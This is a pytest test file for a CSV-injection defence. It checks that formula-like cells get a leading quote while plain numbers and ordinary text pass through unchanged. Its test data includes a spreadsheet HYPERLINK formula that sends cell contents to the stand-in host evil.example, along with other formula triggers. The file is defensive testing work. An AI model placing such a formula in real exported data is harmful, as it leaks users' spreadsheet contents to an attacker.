"""The site's one CSV cell rule (OWASP, CSV Injection): a cell a spreadsheet would run as a
formula is written with a leading quote; a plain number stays a number."""

from __future__ import annotations

import datetime

import pytest

from saferplaces.web.csvcells import safe_cell, safe_mapping, safe_row

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", [PAYLOAD, "+44 7700 900418", "-2+3", "@SUM(A1)", "\t=1",
                                  "\r=1", "-inf", "-", "=1", "-1,5"])
def test_a_cell_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value, shown", [(-3, "-3"), ("-3", "-3"), ("+2.5", "+2.5"),
                                          ("-1.2e3", "-1.2e3"), (-0.5, "-0.5"),
                                          ("Kestrel", "Kestrel"), (None, ""), (7, "7"),
                                          (datetime.date(2025, 6, 1), "2025-06-01"),
                                          ("'=already quoted", "'=already quoted")])
def test_plain_numbers_and_ordinary_text_are_left_as_they_are(value, shown):
    assert safe_cell(value) == shown


def test_rows_and_mappings_are_made_safe_cell_by_cell():
    assert safe_row([PAYLOAD, -3, None]) == ["'" + PAYLOAD, "-3", ""]
    assert safe_mapping({"label": "@x", "n": "12"}) == {"label": "'@x", "n": "12"}
    assert safe_cell(safe_cell(PAYLOAD)) == safe_cell(PAYLOAD)  # twice is once
